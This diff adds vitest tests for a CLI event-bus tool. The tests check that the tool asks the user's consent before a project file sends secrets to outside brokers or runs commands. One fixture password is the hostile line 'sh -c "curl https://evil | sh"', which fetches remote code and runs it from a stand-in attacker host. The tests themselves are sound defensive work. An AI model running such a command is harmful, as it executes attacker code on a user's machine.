@@ -12,7 +12,10 @@ import {
 import { tmpdir, userInfo } from 'node:os'
 import { join } from 'node:path'
 import { beforeEach, describe, expect, onTestFinished, test, vi } from 'vitest'
+import { connect } from '../../src/cli/config/connect.ts'
+import ConfigAllow from '../../src/commands/config/allow.ts'
 import ConfigCommand from '../../src/commands/config.ts'
+import NewAggregate from '../../src/commands/new/aggregate.ts'
 import NewTopic from '../../src/commands/new/topic.ts'
 import Publish from '../../src/commands/publish.ts'
 import SchemaImport from '../../src/commands/schema/import.ts'
@@ -412,4 +415,125 @@ describe('a project file', () => {
     const { stdout } = await run(ConfigCommand, ['--json'])
     expect(JSON.parse(stdout).schemas).toEqual({ value: join(folder, 'project/types'), from: projectFile })
   })
+})
+
+describe('the consent of the user', () => {
+  const theirs = {
+    brokers: 'theirs:9093',
+    tls: true,
+    sasl: { mechanism: 'PLAIN', username: 'dev', password: 'env:AWS_SECRET_ACCESS_KEY' },
+  }
+  const withBrokers = (content: object = theirs) => project({ profile: 'dev', profiles: { dev: content } })
+  const commands: [string, Runnable, string[]][] = [
+    ['topics list', TopicsList, []],
+    ['publish', Publish, publishing],
+  ]
+
+  test.each(commands)(
+    'the consent of the user is needed before %s opens the brokers of a project with a secret',
+    async (_, command, argv) => {
+      withBrokers()
+      let opened = 0
+      const openBus = () => {
+        opened += 1
+        return new InMemoryEventBus({ broker })
+      }
+
+      const refused = await run(command, argv, {}, { openBus })
+
+      expect([refused.exitCode, opened]).toEqual([6, 0])
+      expect(refused.stderr).toContain(
+        `${projectFile} needs your consent, because a stranger may have written it: profile 'dev' sends 1 secret of yours to theirs:9093: env:AWS_SECRET_ACCESS_KEY`,
+      )
+      expect(refused.stderr).toContain('try: crbus config allow')
+      expect((await run(ConfigAllow, ['--yes'])).exitCode).toBe(0)
+      expect((await run(command, argv, {}, { openBus })).exitCode).toBe(0)
+      expect(opened).toBe(1)
+    },
+  )
+
+  test('the consent of the user is asked for with the whole program and its arguments', async () => {
+    withBrokers({ ...theirs, sasl: { ...theirs.sasl, password: 'cmd:sh -c "curl https://evil | sh"' } })
+    const { stdout, exitCode } = await run(ConfigAllow, ['--dry-run'])
+    expect([exitCode, stdout]).toEqual([
+      0,
+      expect.stringContaining('the output of the program: sh -c curl https://evil | sh'),
+    ])
+    const declined = await run(ConfigAllow, [], {}, { isTerminal: true, stdin: 'n\n' })
+    expect([declined.exitCode, declined.stderr]).toEqual([6, expect.stringContaining('Allow this? [y/N]')])
+    expect((await run(TopicsList, [])).exitCode).toBe(6)
+  })
+
+  test('the consent of the user ends when the file asks for something else, and can be taken back', async () => {
+    withBrokers()
+    await run(ConfigAllow, ['--yes'])
+    withBrokers({ ...theirs, brokers: 'evil:9093' })
+    expect((await run(TopicsList, [])).exitCode).toBe(6)
+    withBrokers()
+    expect((await run(TopicsList, [])).exitCode).toBe(0)
+    const revoked = await run(ConfigAllow, ['--revoke', '--yes', '--json'])
+    expect(JSON.parse(revoked.stdout)).toMatchObject({ file: projectFile, isAllowed: false, applied: true })
+    expect((await run(TopicsList, [])).exitCode).toBe(6)
+  })
+
+  test('the consent of the user for one project is not that for a copy of it elsewhere', async () => {
+    withBrokers()
+    await run(ConfigAllow, ['--yes'])
+    mkdirSync(join(folder, 'copy'))
+    writeFileSync(join(folder, 'copy/crbus.json'), readFileSync(projectFile))
+    expect((await run(TopicsList, [], {}, { cwd: join(folder, 'copy') })).exitCode).toBe(6)
+  })
+
+  test('the consent of the user is needed before a password of the environment goes to the brokers of a project', async () => {
+    withBrokers({ ...theirs, sasl: { ...theirs.sasl, password: 'theirs' } })
+    expect((await run(TopicsList, [])).exitCode).toBe(0)
+    const { exitCode, stderr } = await run(TopicsList, [], { CRBUS_SASL_PASSWORD: SECRET })
+    expect([exitCode, stderr]).toEqual([6, expect.stringContaining('to theirs:9093: CRBUS_SASL_PASSWORD')])
+    expect(stderr).not.toContain(SECRET)
+    expect((await run(TopicsList, ['-b', 'mine:9093', '--tls'], { CRBUS_SASL_PASSWORD: SECRET })).stderr).not.toContain(
+      'consent',
+    )
+  })
+
+  test('the consent of the user is needed before templates outside the project are used', async () => {
+    mkdirSync(join(folder, 'home/templates'), { recursive: true })
+    symlinkSync(join(folder, 'home/templates'), join(folder, 'project/link'))
+    for (const templates of ['../home/templates', 'link']) {
+      mkdirSync(join(folder, 'home/templates/aggregate-ts'), { recursive: true })
+      project({ templates })
+      const { exitCode, stderr } = await run(NewAggregate, ['order', '--event', 'Placed:id=uuid', '--yes'])
+      expect([exitCode, stderr]).toEqual([
+        6,
+        expect.stringMatching(/uses the templates of .*, which is outside the project/),
+      ])
+    }
+    expect(filesIn('project').filter((path) => !path.startsWith('link'))).toEqual(['crbus.json', 'inner'])
+  })
+
+  test('the consent of the user cannot be saved in a folder that is not writable', async () => {
+    withBrokers()
+    const { exitCode, stderr } = await run(ConfigAllow, ['--yes'], {}, { stateFolder: '/proc/crbus' })
+    expect([exitCode, stderr]).toEqual([6, expect.stringContaining('is not writable')])
+  })
+})
+
+test('no command repeats a secret of the configuration, also when the connection fails', async () => {
+  user({
+    profile: 'mine',
+    profiles: {
+      mine: {
+        brokers: 'mine:9093',
+        tls: { ca: 'plain:no pem', keyPassphrase: SECRET },
+        sasl: { mechanism: 'SCRAM-SHA-256', username: 'alice', password: SECRET },
+      },
+    },
+  })
+  for (const argv of [[], ['--json'], ['--debug'], ['--json', '--debug']]) {
+    const shown = await run(ConfigCommand, argv)
+    expect(shown.stdout).toContain('(hidden)')
+    expect(shown.stdout + shown.stderr).not.toContain(SECRET)
+    const listed = await run(TopicsList, argv, {}, { openBus: connect })
+    expect(listed.exitCode).toBe(2)
+    expect(listed.stdout + listed.stderr).not.toContain(SECRET)
+  }
 })
